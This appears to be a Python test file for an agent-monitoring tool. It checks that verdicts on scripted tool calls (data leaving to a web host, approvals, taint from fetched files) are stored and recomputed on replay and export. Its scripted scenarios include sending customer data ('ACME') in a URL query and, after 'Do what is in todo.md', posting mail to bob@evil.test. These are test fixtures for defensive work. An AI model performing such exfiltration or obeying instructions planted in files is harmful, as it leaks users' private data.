"""How a call was judged is stored with it, and computed again from rows alone, in the store and in an exported file."""

from __future__ import annotations

import json
from typing import Any

from support.app import ME, PERSON, Place, open_checked_app, reads, rests, says
from support.network import Peer
from support.postgres import both_stores

from flow.test_foreign_files import TEXT, servers
from flow.test_leaving import FETCH, calls, server, start
from kairos_mcp.app.app import App
from kairos_mcp.core.limits import Limits
from kairos_mcp.core.urls import parse_host_rule
from kairos_mcp.history.verify import verify
from kairos_mcp.settings.table_values import FlowSetting

JUDGED = "select judged from step where path = ? and judged is not null"


def judged_at(place: Place, path: str) -> dict[str, Any]:
    found: dict[str, Any] = json.loads(place.rows(JUDGED, path)[0][0])
    return found


@both_stores
async def test_findings_and_clean_ones_are_found_again(place: Place, web: Peer) -> None:
    page, leak = web.url("/howto"), web.url("/c?q=ACME")
    lines = (
        calls("web__fetch", url=page),
        reads("customers.md"),
        calls("web__fetch", url=leak),
        calls("web__fetch", url=leak),
        calls("web__fetch", url=web.url("/own?q=zebra", host="localhost")),
    )
    flow = FlowSetting(hosts=(parse_host_rule("localhost"),))
    fetch = server(place, FETCH, {"fetch": "Hello"})
    async with open_checked_app(place.settings(*lines, says("done"), servers=(fetch,), flow=flow)) as app:
        report = await start(app, f"Sum up {page}", limits=Limits(rounds=9))
        (waiting,) = report.waiting
        approve = {"decision": "approve", "digest": waiting["digest"]}
        await app.answers.submit(report.run_id, {waiting["key"]: approve}, PERSON)
        report = await rests(app, report.run_id)
        assert (report.status, report.waiting) == ("completed", ())
        assert [each["rule"] for each in judged_at(place, "round-3/call-1")["found"]] == ["leaves"]
        assert judged_at(place, "round-4/call-1")["found"] == []
        assert judged_at(place, "round-4/call-1")["approved"] == ["round-3/call-1"]
        assert judged_at(place, "round-5/call-1")["hosts"] == [f"localhost:{web.port}"]
        lines_of_file = list(await app.records.export(report.run_id, ME))
        assert verify(lines_of_file).identical
        for path in ("round-3/call-1", "round-4/call-1"):
            await assert_noticed(place, app, report.run_id, path)


async def assert_noticed(place: Place, app: App, run_id: str, path: str) -> None:
    """A judgement that its rows don't give is a difference, in the store and in a file."""
    before = place.rows(JUDGED, path)[0][0]
    judged = json.loads(before)
    judged["found"] = [] if judged["found"] else [{"rule": "leaves", "argument": "url", "words": "acme", "source": ""}]
    place.rows("update step set judged = ? where path = ?", json.dumps(judged), path)
    for report in (await app.records.replay(run_id, ME), verify(list(await app.records.export(run_id, ME)))):
        assert report.difference is not None
        assert report.difference.path == path
    place.rows("update step set judged = ? where path = ?", before, path)


async def test_what_is_read_of_a_foreign_file_is_found_again_after_a_person_trusts_it(place: Place, web: Peer) -> None:
    note = calls("write_file", path="todo.md", content=TEXT)
    lines = (calls("web__fetch", url=web.url("/howto")), note)
    async with open_checked_app(place.settings(*lines, says("done"), **servers(place))) as app:
        await start(app, "Note what the page says")
    post = calls("mail__post", to="bob@evil.test", body="hello")
    async with open_checked_app(place.settings(reads("todo.md"), post, says("done"), **servers(place))) as app:
        report = await start(app, "Do what is in todo.md")
        assert judged_at(place, "round-2/call-1")["foreign"] == ["round-1/call-1"]
        await app.answers.trust_file(str(place.workspace), "todo.md", PERSON)
        assert (await app.records.replay(report.run_id, ME)).identical
        assert verify(list(await app.records.export(report.run_id, ME))).identical
